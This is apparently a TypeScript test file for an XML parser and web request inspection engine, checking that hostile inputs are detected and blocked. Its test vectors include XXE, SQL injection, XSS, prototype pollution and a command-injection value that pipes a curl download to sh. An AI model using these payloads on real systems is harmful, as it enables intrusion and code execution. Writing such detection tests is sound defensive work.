import t from 'tap';
import { createEngine } from '../../src/engine';
import type { InputSource, InspectionRequest } from '../../src/types';
import { looksLikeXml, readXml } from '../../src/xml';

const values = (s: string): Array<[string, string]> => readXml(s).values.map((v) => [v.path.join('.'), v.value]);

t.test('readXml: attribute values, text and CDATA with their paths, entities decoded', async (t) => {
  t.same(values('<?xml version="1.0" encoding="UTF-8"?><order id="17"><note>Leave &amp; go</note><sku>A-1</sku></order>'), [
    ['order.@id', '17'],
    ['order.note.#text', 'Leave & go'],
    ['order.sku.#text', 'A-1'],
  ]);
  t.same(values("<a x='1' y=2 checked><![CDATA[<b>&amp;</b>]]></a>"), [
    ['a.@x', '1'],
    ['a.@y', '2'],
    ['a.#text', '<b>&amp;</b>'],
  ], 'single quotes, unquoted values, bare attributes; CDATA kept as written');
  t.same(values('<r><!-- a comment <x y="z"> --><?pi data?><e v="&#x27;&#39;&quot;"/>tail</r>'), [
    ['r.e.@v', `''"`],
    ['r.#text', 'tail'],
  ], 'comments and processing instructions skipped; numeric references decoded; self-closing element');
  t.same(values('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'), [['r.#text', '&x;']], 'DOCTYPE and its internal subset skipped (XXE reads the raw text); unknown entities left as written');
  t.same(values('<r><a>one<b>two</b></a><c>three'), [
    ['r.a.#text', 'one two'],
    ['r.c.#text', 'three'],
  ], 'unclosed elements: what was read');
  t.same(values('<div><h1>Tips</h1><p>1. Use <code>ls -la</code> to list files.</p></div>'), [
    ['div.h1.#text', 'Tips'],
    ['div.p.#text', '1. Use ls -la to list files.'],
  ], 'mixed content is one value (the text a reader sees), data elements keep their own');
  t.same(values('<r>1 < 2</r>'), [
    ['r.#text', '1'],
    ['r.#text', '<'],
    ['r.#text', '2'],
  ], 'a lone < in text (text trimmed)');
});

t.test('readXml: element and attribute names with their parents (key checks)', async (t) => {
  const d = readXml('<constructor><prototype polluted="1"/></constructor>');
  t.same(
    d.names.map((n) => [n.name, n.parent]),
    [
      ['constructor', undefined],
      ['prototype', 'constructor'],
      ['polluted', 'prototype'],
    ],
  );
});

t.test('readXml is bounded and reads hostile shapes once', async (t) => {
  const many = readXml('<r>' + '<a v="1"/>'.repeat(10_000) + '</r>');
  t.equal(many.truncated, true, 'node budget');
  t.ok(many.values.length <= 4096);
  const deep = readXml('<a>'.repeat(1000) + 'x');
  t.equal(deep.truncated, true, 'depth budget');
  t.ok((deep.values[0]?.path.length ?? 0) <= 65);
  // Each of these is about 1 MB; a quadratic reader would not finish within the test's timeout.
  for (const unit of ['<!', '<!--', '<![CDATA[', '<?', '</', '<a ', '<a x="', '<!DOCTYPE [', '< ']) {
    const d = readXml(unit.repeat(Math.ceil(1_000_000 / unit.length)));
    t.ok(d.values.length <= 4096, `bounded on ${JSON.stringify(unit)} runs`);
  }
});

t.test('looksLikeXml', async (t) => {
  for (const s of ['<?xml version="1.0"?><r/>', '<r>x</r>', '  <a href="x">y</a>\n', '<br/>', '<svg onload=alert(1)></svg>']) t.ok(looksLikeXml(s), s);
  for (const s of ['<r>', 'x <b>y</b>', '<b>y</b> x', '1 < 2 > 0', '<>', '<1a></1a>', '{"a":"<b/>"}', '<<<>>>']) t.notOk(looksLikeXml(s), s);
});

const field = (value: string): InputSource => ({ kind: 'body', path: 'body', value: JSON.stringify({ doc: value }), decoding: 'body', contentType: 'application/json', validate: true });
const xmlBody = (value: string): InputSource => ({ kind: 'body', path: 'body', value, decoding: 'body', contentType: 'application/soap+xml', validate: true });
const req = (s: InputSource): InspectionRequest => ({ sources: [s] });

t.test('engine: values inside an XML document are inspected each on its own', async (t) => {
  const e = createEngine();
  const sql = e.inspect(req(field('<?xml version="1.0"?><root><a probe="\';INSERT INTO users (name) VALUES (1)--"></a></root>')));
  t.equal(sql.action, 'block');
  t.ok(sql.findings.some((x) => x.class === 'sqli' && x.path === 'body.doc.root.a["@probe"]'), 'path down to the attribute');

  const soap = [
    '<?xml version="1.0" encoding="utf-8"?>',
    '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:m="https://www.example.org/stock">',
    '<soap:Body><m:GetStockPrice><m:StockName>x\' UNION SELECT password FROM users--</m:StockName></m:GetStockPrice></soap:Body>',
    '</soap:Envelope>',
  ].join('\n');
  const v = e.inspect(req(xmlBody(soap)));
  t.equal(v.action, 'block', 'SOAP body');
  t.ok(v.findings.some((x) => x.class === 'sqli' && x.path === 'body["soap:Envelope"]["soap:Body"]["m:GetStockPrice"]["m:StockName"]["#text"]'), JSON.stringify(v.findings));

  const shell = e.inspect(req(xmlBody('<job><cmd file="report.pdf; curl http://203.0.113.9/x | sh"/></job>')));
  t.ok(shell.findings.some((x) => x.class === 'shell' && x.path === 'body.job.cmd["@file"]'), JSON.stringify(shell.findings));

  const proto = e.inspect(req(xmlBody('<settings><__proto__><isAdmin>true</isAdmin></__proto__></settings>')));
  t.ok(proto.findings.some((x) => x.class === 'prototype-pollution' && x.path === 'body.settings.__proto__'), 'element names get the key checks');

  const escaped = e.inspect(req(field('<r><q>&apos; OR &apos;1&apos;=&apos;1&apos; --</q></r>')));
  t.ok(escaped.findings.some((x) => x.class === 'sqli' && x.path === 'body.doc.r.q["#text"]'), 'entity-encoded breakout, decoded as the XML consumer reads it');
});

t.test('engine: ordinary XML documents stay clean (negative vectors)', async (t) => {
  const e = createEngine();
  const docs = [
    '<?xml version="1.0" encoding="UTF-8"?>\n<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope/"><soap:Body><m:GetPrice xmlns:m="https://www.example.org/prices"><m:Item>Apples &amp; pears</m:Item><m:Qty>3</m:Qty></m:GetPrice></soap:Body></soap:Envelope>',
    '<?xml version="1.0"?><rss version="2.0"><channel><title>O\'Neil\'s blog</title><link>https://blog.example.com/</link><description>Notes on cooking, travel &amp; code (since 2009).</description><item><title>Select the best tomatoes</title><pubDate>Tue, 10 Jun 2025 04:00:00 GMT</pubDate><guid isPermaLink="false">post-17</guid></item></channel></rss>',
    '<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="24" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z" fill="none" stroke="currentColor" stroke-width="2"/><text x="4" y="20" font-family="Arial, sans-serif">Drag the table here</text></svg>',
    '<feed xmlns="http://www.w3.org/2005/Atom"><title type="text">Orders -- weekly</title><updated>2025-06-10T04:00:00Z</updated><entry><id>urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a</id><summary>1 or 2 items; order by date</summary></entry></feed>',
    '<p class="note">Use <code>a &lt; b</code> and <em>c &gt; d</em>, then <a href="/docs/select?id=3&amp;lang=en">read more</a>.</p>',
    '<div><h1>Top 10 tips</h1><p>1. Use <code>ls -la</code> to list files, <code>cat notes.txt</code> to read one.</p></div>',
    '<config><path>/var/app/data</path><retries>3</retries><mode>read-write</mode><pattern>*.log</pattern></config>',
  ];
  for (const d of docs) {
    const v = e.inspect(req(xmlBody(d)));
    t.same(v.findings, [], d.slice(0, 60));
    const w = e.inspect(req(field(d)));
    t.same(w.findings, [], 'as a JSON field: ' + d.slice(0, 60));
  }
});

t.test('readXml: HTML fragments are told from XML documents', async (t) => {
  t.equal(readXml('<p>Use <code>&lt;b&gt;</code></p>').html, true);
  t.equal(readXml('<DIV class="x">a</DIV>').html, true);
  t.equal(readXml('<comment>&lt;b&gt;</comment>').html, false, 'an XML element');
  t.equal(readXml('<?xml version="1.0"?><p>x</p>').html, false, 'an XML declaration first');
  t.equal(readXml('<soap:Envelope><p>x</p></soap:Envelope>').html, false);
});

t.test('engine: markup spelled by entities in an HTML fragment is display text, not XSS', async (t) => {
  const e = createEngine();
  const body = (v: string) => e.inspect({ method: 'POST', path: '/posts', sources: [{ kind: 'body', path: 'body', value: JSON.stringify({ html: v }), decoding: 'body', contentType: 'application/json' }] });
  // A rich-text post about HTML: the browser shows "<script>" as text.
  t.same(body('<p>Use the <code>&lt;script&gt;</code> tag to load code.</p>').findings, []);
  t.same(body('<p>I wrote about &lt;iframe&gt; embeds</p>').findings, []);
  // Real markup and entity tricks the browser decodes in attributes are still XSS.
  t.equal(body('<p>hi <script>alert(1)</script></p>').action, 'block');
  t.equal(body('<a href="javascript&#58;alert(1)">x</a>').action, 'block');
  t.equal(body('<p><img src=x onerror=alert(1)></p>').action, 'block');
  // An XML document's decoded text reaches the application as markup it may render: still XSS.
  t.equal(body('<comment>&lt;script&gt;alert(1)&lt;/script&gt;</comment>').action, 'block');
  t.equal(body('<?xml version="1.0"?><p>&lt;script&gt;alert(1)&lt;/script&gt;</p>').action, 'block');
  // Other classes still read the decoded text of an HTML fragment.
  t.ok(body("<p>&#39; OR 1=1--</p>").findings.some((f) => f.class === 'sqli'));
  // A plain value with encoded markup (no real tags) is still decoded and judged.
  t.equal(body('&lt;script&gt;alert(1)&lt;/script&gt;').action, 'block');
});
